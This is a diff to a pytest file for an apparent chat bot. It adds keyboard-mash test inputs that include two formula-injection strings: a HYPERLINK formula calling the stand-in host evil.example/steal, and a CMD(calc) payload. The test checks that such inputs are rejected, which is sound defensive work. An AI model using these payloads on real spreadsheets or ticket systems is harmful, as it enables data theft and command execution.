@@ -723,7 +723,16 @@ async def test_a_phrasing_of_function_words_only_is_answered_word_for_word(
     assert "Ask me your question" in (await kb_bot.send("ilse", "What can they do?")).text
 
 
-@pytest.mark.parametrize("mash", ["asdkjh qwe lkjasd zxcmnb qpwoei", "fjdksl; ghruei ,vmcx"])
+@pytest.mark.parametrize(
+    "mash",
+    [
+        "asdkjh qwe lkjasd zxcmnb qpwoei",
+        "fjdksl; ghruei ,vmcx",
+        # a formula (walkthrough, session 48: an English member's had become a ticket)
+        '=HYPERLINK("http://evil.example/steal", "Klick mich")',
+        "@SUM(A1:A9) + CMD(calc)",
+    ],
+)
 async def test_keyboard_mash_asks_for_a_sentence_and_reaches_no_office(
     kb_bot: Harness, mash: str
 ) -> None:
